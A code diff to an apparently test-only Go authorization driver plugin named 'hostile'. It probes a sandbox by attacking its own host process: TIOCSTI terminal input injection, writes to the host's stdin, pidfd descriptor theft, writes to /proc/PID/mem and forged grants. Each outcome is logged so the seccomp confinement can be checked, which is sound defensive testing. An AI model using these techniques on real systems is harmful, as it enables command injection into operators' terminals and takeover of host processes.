@@ -3,7 +3,7 @@
 // Package hostile is a test-only authz driver plugin that attacks its host and the host's
 // process table while it serves as the example driver:
 //
-//	steal -out FILE        try to reach into the host (its parent): list /proc/PPID/fd, copy its
+//	steal -out FILE        try to reach into the host (-target PID, default its parent): list /proc/PPID/fd, copy its
 //	                       descriptors with pidfd_getfd (and answer forged grants on every TCP
 //	                       listener among them, for as long as it lives), open
 //	                       /proc/PPID/mem for writing, write into /proc/PPID/fd/2, read its
@@ -11,6 +11,12 @@
 //	                       only a seccomp filter refuses); FILE gets the outcome of each (JSON)
 //	zombify -n N -out FILE leave N orphans (double fork, setsid, no environment) that end 0.5 s
 //	                       later; FILE gets their pids once all were started
+//	tty -out FILE          try to reach the operator through the host's terminal and session:
+//	                       open /dev/tty and push input into it (TIOCSTI), push input into
+//	                       the host's stdin (/proc/TARGET/fd/0) and into a terminal of its own
+//	                       made its controlling terminal (which only a seccomp filter
+//	                       refuses), and send SIGCONT to the host; -target PID is the host
+//	                       (default: the parent)
 //	fork-escape -out FILE  leave one orphan (double fork, setsid, no environment, /proc/self/exe
 //	                       re-executed) that sleeps for 10 minutes; FILE gets its pid
 //
@@ -61,6 +67,15 @@ const (
 	AttemptSelfVMRead = "process_vm_readv of itself"
 )
 
+// Attempts of the tty mode, the keys of its FILE.
+const (
+	AttemptOpenTTY     = "open /dev/tty"
+	AttemptTTYInject   = "TIOCSTI on /dev/tty"
+	AttemptStdinInject = "TIOCSTI on the host's stdin"
+	AttemptOwnInject   = "TIOCSTI on a terminal of its own"
+	AttemptSIGCONT     = "SIGCONT to the host"
+)
+
 // Outcome is how one attempt ended: OK, or the error and its errno.
 type Outcome struct {
 	OK     bool   `json:"ok"`
@@ -92,6 +107,7 @@ func Main(args []string) int {
 	out := fs.String("out", "", "file for what the driver did")
 	n := fs.Int("n", 40, "zombify: how many orphans")
 	key := fs.String("key", "test.hostile", "plugin key")
+	target := fs.Int("target", 0, "tty: the host's pid (0: the parent)")
 	if err := fs.Parse(args[1:]); err != nil {
 		return 2
 	}
@@ -103,9 +119,13 @@ func Main(args []string) int {
 	var attack func() error
 	switch mode {
 	case "steal":
-		attack = func() error { return writeJSON(*out, steal()) }
+		attack = func() error { return writeJSON(*out, steal(hostPID(*target))) }
 	case "zombify":
 		attack = func() error { return orphans(*out, *n, "500ms") }
+	case "tty":
+		attack = func() error {
+			return writeJSON(*out, ttyAttacks(hostPID(*target)))
+		}
 	case "fork-escape":
 		attack = func() error { return orphans(*out, 1, "10m") }
 	default:
@@ -146,9 +166,16 @@ func outcome(detail string, err error) Outcome {
 	return o
 }
 
+// hostPID is the host's pid: target, or the parent when target is 0.
+func hostPID(target int) int {
+	if target != 0 {
+		return target
+	}
+	return os.Getppid()
+}
+
 // steal tries every way into the host it knows.
-func steal() map[string]Outcome {
-	host := os.Getppid()
+func steal(host int) map[string]Outcome {
 	proc := "/proc/" + strconv.Itoa(host)
 	res := map[string]Outcome{}
 
@@ -262,6 +289,76 @@ func vmRead(host int) Outcome {
 		return outcome("", err)
 	}
 	return outcome(fmt.Sprintf("read %d bytes: %q", n, buf[:n]), nil)
+}
+
+// ttyAttacks tries to reach the operator's terminal and the host's session.
+func ttyAttacks(host int) map[string]Outcome {
+	res := map[string]Outcome{}
+	if f, err := os.OpenFile("/dev/tty", os.O_RDWR, 0); err == nil {
+		res[AttemptOpenTTY] = outcome("opened", nil)
+		res[AttemptTTYInject] = outcome("pushed", inject(int(f.Fd())))
+		_ = f.Close()
+	} else {
+		res[AttemptOpenTTY] = outcome("", err)
+		res[AttemptTTYInject] = outcome("", err)
+	}
+	if f, err := os.OpenFile("/proc/"+strconv.Itoa(host)+"/fd/0", os.O_RDWR, 0); err == nil {
+		res[AttemptStdinInject] = outcome("pushed", inject(int(f.Fd())))
+		_ = f.Close()
+	} else {
+		res[AttemptStdinInject] = outcome("", err)
+	}
+	res[AttemptOwnInject] = outcome("pushed", ownTerminalInject())
+	res[AttemptSIGCONT] = outcome("sent", unix.Kill(host, unix.SIGCONT))
+	return res
+}
+
+// inject pushes a harmless character into the input of the terminal fd.
+func inject(fd int) error {
+	c := byte('#')
+	_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
+	if errno != 0 {
+		return errno
+	}
+	return nil
+}
+
+// ownTerminalInject opens a new terminal, makes it the driver's controlling terminal (possible
+// for a session leader without one) and pushes input into it: the kernel allows that to anyone,
+// so only a seccomp filter refuses it.
+func ownTerminalInject() error {
+	master, slave, err := OpenPTY()
+	if err != nil {
+		return err
+	}
+	defer func() { _ = master.Close(); _ = slave.Close() }()
+	if err := unix.IoctlSetInt(int(slave.Fd()), unix.TIOCSCTTY, 0); err != nil {
+		return fmt.Errorf("make it the controlling terminal: %w", err)
+	}
+	return inject(int(slave.Fd()))
+}
+
+// OpenPTY opens a new pseudo-terminal pair.
+func OpenPTY() (master, slave *os.File, err error) {
+	master, err = os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
+	if err != nil {
+		return nil, nil, err
+	}
+	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
+		_ = master.Close()
+		return nil, nil, err
+	}
+	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
+	if err != nil {
+		_ = master.Close()
+		return nil, nil, err
+	}
+	slave, err = os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
+	if err != nil {
+		_ = master.Close()
+		return nil, nil, err
+	}
+	return master, slave, nil
 }
 
 // orphans leaves n orphans that sleep for d (double fork, setsid, no environment) and writes
